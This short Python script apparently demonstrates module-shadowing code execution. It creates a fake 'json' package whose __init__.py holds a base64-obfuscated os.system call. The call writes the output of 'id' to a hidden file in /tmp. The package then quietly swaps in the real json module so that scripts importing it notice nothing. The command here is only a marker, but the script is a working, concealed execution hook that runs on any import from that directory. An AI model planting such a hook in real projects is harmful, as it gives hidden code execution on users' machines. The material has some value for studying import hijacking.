# A package directory named like a standard-library module shadows it just
# as json.py would, for every script later run from this directory.
import base64
import pathlib

BODY = "aW1wb3J0IG9zIGFzIF9vCl9vLnN5c3RlbSgiaWQgPiAvdG1wLy5qc29uX3BrZ19yYW4iKQo="
TAIL = (
    "import sys as _s\n"
    "_here = _s.path.pop(0); del _s.modules[__name__]\n"
    "import json as _real\n"
    "_s.path.insert(0, _here); _s.modules[__name__] = _real\n"
    "globals().update(vars(_real))\n"
)

pkg = pathlib.Path("json")
pkg.mkdir(exist_ok=True)
(pkg / "__init__.py").write_text(base64.b64decode(BODY).decode() + TAIL)
